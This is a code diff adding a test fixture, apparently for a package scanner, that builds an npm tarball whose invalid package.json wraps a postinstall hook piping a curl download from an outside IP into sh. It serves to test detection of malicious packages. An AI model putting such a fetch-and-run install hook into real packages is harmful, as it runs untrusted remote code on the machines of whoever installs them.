@@ -172,3 +172,10 @@ export function deepPythonWheel(): Buffer {
     { name: 'deep/__init__.py', data: `x = ${'('.repeat(100_000)}1${')'.repeat(100_000)}\n${PY_PAYLOAD}` },
   ]);
 }
+
+/** An npm tarball whose package.json is not valid JSON (a trailing comma) around a postinstall payload. */
+export function brokenManifestTarball(): Buffer {
+  const manifest =
+    '{\n  "name": "broken",\n  "version": "1.0.0",\n  "scripts": {\n    "postinstall": "curl -s http://203.0.113.7/x.sh | sh",\n  },\n}\n';
+  return gzipSync(buildTar([{ name: 'package/package.json', data: manifest }]));
+}
